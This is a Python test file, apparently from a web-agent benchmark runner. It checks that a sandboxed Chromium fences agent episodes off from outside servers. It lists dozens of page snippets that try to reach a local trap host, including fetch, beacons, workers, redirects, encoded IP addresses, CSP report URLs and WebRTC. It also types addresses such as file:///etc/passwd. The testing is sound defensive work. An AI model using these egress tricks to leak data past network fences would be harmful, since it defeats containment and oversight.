"""Ways out of a task's sites, all tried from a page: none reaches a server that is listening.

Each is played in two episodes at once, with a trap of its own for each: in the other episode the trap is one of the
sites, and must be reached, so that a way which this Chromium does not have proves nothing.
"""

import asyncio
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, suppress
from dataclasses import dataclass

import pytest
import pytest_asyncio
from playwright.async_api import Error as PlaywrightError
from playwright.async_api import async_playwright

from tests.support.local_site import Reply, Site, serve
from tests.support.pages import id_of
from tests.support.trap import Trap, trap
from webarena_runner.browser.environment import EpisodeEnvironment
from webarena_runner.browser.find import find_browser, launch_args
from webarena_runner.browser.session import BrowserSession
from webarena_runner.types import Click, Goto

pytestmark = [pytest.mark.browser, pytest.mark.long, pytest.mark.asyncio(loop_scope="session")]

# URL, WS, HOST (with port) and PORT stand for those of a trap, SITE for the site's host.
WAYS = {
    "fetch": "<script>fetch('URL/x', {mode: 'no-cors'})</script>",
    "fetch keepalive": "<script>fetch('URL/x', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})</script>",
    "XMLHttpRequest": "<script>const x = new XMLHttpRequest(); x.open('GET', 'URL/x'); x.send()</script>",
    "beacon": "<script>navigator.sendBeacon('URL/x', 'x')</script>",
    "EventSource": "<script>new EventSource('URL/x')</script>",
    "WebSocket": "<script>new WebSocket('WS/x')</script>",
    "picture": "<img src='URL/x.png'>",
    "picture by srcset": "<img srcset='URL/x.png 1x'>",
    "script": "<script src='URL/x.js'></script>",
    "module": "<script type=module>import('URL/x.js')</script>",
    "style sheet": "<link rel=stylesheet href='URL/x.css'>",
    "CSS url()": "<p style=\"background: url('URL/x.png')\">x",
    "CSS import": "<style>@import url('URL/x.css');</style>",
    "font": "<style>@font-face { font-family: f; src: url('URL/x.woff2') } p { font-family: f }</style><p>x",
    "SVG image": "<svg width=9 height=9><image href='URL/x.png' width=9 height=9 /></svg>",
    "iframe": "<iframe src='URL/x'></iframe>",
    "frame in a data page": "<iframe src=\"data:text/html,<img src='URL/x.png'>\"></iframe>",
    "frame in a srcdoc": "<iframe srcdoc=\"<img src='URL/x.png'>\"></iframe>",
    "object": "<object data='URL/x' type='text/html'></object>",
    "embed": "<embed src='URL/x' type='text/html'>",
    "video": "<video src='URL/x.mp4' autoplay muted></video>",
    "image button": "<input type=image src='URL/x.png'>",
    "preload": "<link rel=preload as=script href='URL/x.js'>",
    "prefetch": "<link rel=prefetch href='URL/x'>",
    "meta refresh": "<meta http-equiv=refresh content='0; url=URL/x'>",
    "location": "<script>location = 'URL/x'</script>",
    "form": "<form action='URL/x' method=post><input name=a value=b></form><script>document.forms[0].submit()</script>",
    "window": "<script>window.open('URL/x')</script>",
    "link ping": "<a id=a href='#x' ping='URL/x'>x</a><script>a.click()</script>",
    "download": "<a id=a href='URL/x' download>x</a><script>a.click()</script>",
    "worker": "<script>new Worker(CREATE(new Blob([\"fetch('URL/x', {mode: 'no-cors'})\"])))</script>",
    "worker that imports": "<script>new Worker(CREATE(new Blob([\"importScripts('URL/x.js')\"])))</script>",
    "shared worker": "<script>new SharedWorker('data:text/javascript,'"
    " + encodeURIComponent(\"fetch('URL/x', {mode: 'no-cors'})\"))</script>",
    "service worker": "<script>navigator.serviceWorker.register('/worker.js?URL')</script>",
    "redirect": "<script>location = '/redirect?URL/x'</script>",
    "redirect of a picture": "<img src='/redirect?URL/x.png'>",
    "redirect of a request": "<script>fetch('/redirect?URL/x', {mode: 'no-cors'})</script>",
    "user name before the host": "<script>location = 'http://SITE@HOST/x'</script>",
    "decimal address": "<img src='http://2130706433:PORT/x.png'>",
    "hexadecimal address": "<img src='http://0x7f000001:PORT/x.png'>",
    "octal address": "<img src='http://0177.0.0.1:PORT/x.png'>",
    "short address": "<img src='http://127.1:PORT/x.png'>",
    "violation report": "/reporting",
}
# What this Chromium does not do, or only with servers that speak more: tried all the same.
UNPROVEN = {
    "PDF": "<embed src='URL/x.pdf' type='application/pdf'>",
    "preconnect": "<link rel=preconnect href='URL'>",
    "dns-prefetch": "<link rel=dns-prefetch href='URL'>",
    "prerender": '<script type=speculationrules>{"prerender": [{"urls": ["URL/x"]}]}</script>',
    "WebTransport": "<script>try { new WebTransport('https://HOST/x') } catch {}</script>",
    "WebRTC": """<script>const c = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}, {username: 'a',
        credential: 'b', urls: ['turn:HOST?transport=udp', 'turn:HOST?transport=tcp']}]});
        c.createDataChannel('x'); c.createOffer().then((offer) => c.setLocalDescription(offer))</script>""",
    "name of this machine": "<img src='http://rebind.localhost:PORT/x.png'>",
    "mapped address": "<img src='http://[::ffff:127.0.0.1]:PORT/x.png'>",
    "address of everything": "<img src='http://0.0.0.0:PORT/x.png'>",
    "manifest": "<link rel=manifest href='URL/x.json'>",
    "icon": "<link rel=icon href='URL/x.ico'>",
}
MARK = "way"


@dataclass
class Lab:
    """Two episodes on one site: `fenced` has no trap among its sites, `open` has its own."""

    site: Site
    fenced: tuple[EpisodeEnvironment, Trap]
    open: tuple[EpisodeEnvironment, Trap]
    blocked: dict[str, int]

    async def play(self, html: str) -> None:
        """In both at once."""
        async with asyncio.TaskGroup() as group:
            for environment, server in (self.fenced, self.open):
                group.create_task(self._visit(environment, server, html))

    async def _visit(self, environment: EpisodeEnvironment, server: Trap, html: str) -> None:
        server.hit.clear()
        url = f"{self.site.url}/{server.port}"
        values = {"URL": server.url, "WS": server.url.replace("http", "ws"), "HOST": server.url[7:]}
        values |= {"SITE": "127.0.0.1", "PORT": str(server.port), "CREATE": "URL.createObjectURL"}
        written = html
        for name, value in values.items():
            written = written.replace(name, value)
        self.site.page(f"/{server.port}", f"<title>{MARK}</title><body>{written}")
        for path, reply in _own(server).items():
            self.site.route(path, lambda reply=reply: reply)
        page = environment.tabs.current.page
        # Some pages lead on before they have loaded.
        with suppress(PlaywrightError):
            await page.goto(f"{self.site.url}/reporting{server.port}" if html == "/reporting" else url)


def _own(server: Trap) -> dict[str, Reply]:
    """Answers of the site that lead to this trap."""
    redirects = {
        f"/redirect?{server.url}/x{end}": Reply(status=302, headers={"Location": f"{server.url}/x{end}"})
        for end in ("", ".png")
    }
    policy = {"Content-Security-Policy": f"img-src 'none'; report-uri {server.url}/x"}
    worker = f"self.addEventListener('install', () => fetch('{server.url}/x', {{mode: 'no-cors'}}))"
    return {
        **redirects,
        f"/reporting{server.port}": Reply("<!doctype html><img src=/x.png>", headers=policy),
        f"/worker.js?{server.url}": Reply(worker, content_type="text/javascript"),
    }


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def lab(session: BrowserSession) -> AsyncIterator[Lab]:
    blocked: dict[str, int] = {}
    async with AsyncExitStack() as stack:
        site = stack.enter_context(serve())
        start = site.page("/", "<p>Here</p>")
        outside, inside = await stack.enter_async_context(trap()), await stack.enter_async_context(trap())
        fenced = session.episode(urls={"shopping": site.url}, start_urls=[start], blocked=blocked)
        both = {"shopping": site.url, "reddit": inside.url}
        opened = session.episode(urls=both, start_urls=[start])
        yield Lab(
            site,
            (await stack.enter_async_context(fenced), outside),
            (await stack.enter_async_context(opened), inside),
            blocked,
        )
        # Whatever came late, from any of the ways.
        assert outside.hits == []


@pytest.mark.parametrize("way", WAYS)
async def test_no_way_leads_out(way: str, lab: Lab) -> None:
    await lab.play(WAYS[way])
    async with asyncio.timeout(20):
        await lab.open[1].hit.wait()
    assert lab.fenced[1].hits == []


@pytest.mark.parametrize("way", UNPROVEN)
async def test_no_other_way_leads_out(way: str, lab: Lab) -> None:
    await lab.play(UNPROVEN[way])
    page = lab.fenced[0].tabs.current.page
    await page.evaluate("() => new Promise((done) => requestIdleCallback(() => setTimeout(done, 500)))")
    assert lab.fenced[1].hits == []


async def test_webrtc_would_lead_out_of_a_browser_without_our_switch() -> None:
    """Which is what its trial above is worth."""
    found = find_browser(None, headless=True)
    ours = [switch for switch in launch_args(root=True) if "webrtc" not in switch]
    html = UNPROVEN["WebRTC"]
    async with async_playwright() as playwright, trap() as server:
        browser = await playwright.chromium.launch(executable_path=found.path, args=ours)
        context = await browser.new_context(proxy={"server": "http://127.0.0.1:9", "bypass": "<-loopback>"})
        await (await context.new_page()).set_content(html.replace("HOST", server.url[7:]))
        async with asyncio.timeout(20):
            await server.hit.wait()
        await browser.close()


@pytest.mark.parametrize(
    "address",
    [
        "URL/",
        "http://SITE@HOST/",
        "http://HOST\\@SITE/",
        "http://2130706433:PORT/",
        "http://0x7f.1:PORT/",
        "http://[::ffff:7f00:1]:PORT/",
        "http://rebind.localhost:PORT/",
        "http://localhost.:PORT/",
        "HOST",
        "//HOST/",
        "view-source:URL/",
        "javascript:location='URL/'",
        "file:///etc/passwd",
        "filesystem:URL/x",
        "chrome://version",
        "devtools://devtools/bundled/inspector.html",
        "ftp://HOST/",
        "mailto:somebody@outside.test",
        "intent://HOST#Intent;scheme=http;end",
    ],
)
async def test_an_address_that_the_agent_types_leads_nowhere_else(address: str, lab: Lab) -> None:
    environment, server = lab.fenced
    await environment.step(Goto(url=f"{lab.site.url}/"))
    written = address.replace("URL", server.url).replace("HOST", server.url[7:]).replace("PORT", str(server.port))
    after = await environment.step(Goto(url=written.replace("SITE", lab.site.url[7:])))
    assert (after.url, server.hits) == (f"{lab.site.url}/", [])
    assert after.action_error.startswith("goto: ")


@pytest.mark.parametrize("page", ["data:text/html,<img src='URL/x.png'><script>fetch('URL/x')</script>", "about:blank"])
async def test_a_page_without_a_host_is_inside_the_fence_too(page: str, lab: Lab) -> None:
    environment, server = lab.fenced
    after = await environment.step(Goto(url=page.replace("URL", server.url)))
    assert (after.left_to, server.hits) == ((), [])
    if page.startswith("data:"):
        assert lab.blocked[server.url[7:]] >= 2


@pytest.mark.parametrize(
    "link", ["mailto:a@outside.test", "tel:1", "web+x://HOST", "file:///etc/passwd", "chrome://gpu"]
)
async def test_a_link_of_another_protocol_opens_nothing(link: str, lab: Lab) -> None:
    environment, server = lab.fenced
    page = lab.site.page("/link", f"<a href='{link.replace('HOST', server.url[7:])}'>Away</a>")
    await environment.step(Goto(url=page))
    after = await environment.step(Click(element_id=id_of(await environment.observe(), "link 'Away'")))
    assert (after.url, server.hits) == (page, [])


async def test_a_site_that_asks_for_a_password_gets_no_dialog_and_no_account(lab: Lab) -> None:
    environment, _ = lab.fenced
    url = lab.site.page("/secret", "no", status=401, headers={"WWW-Authenticate": 'Basic realm="x"'})
    after = await environment.step(Goto(url=url))
    assert after.url in (url, "chrome-error://chromewebdata/")
    assert lab.site.asked.count("/secret") == 1
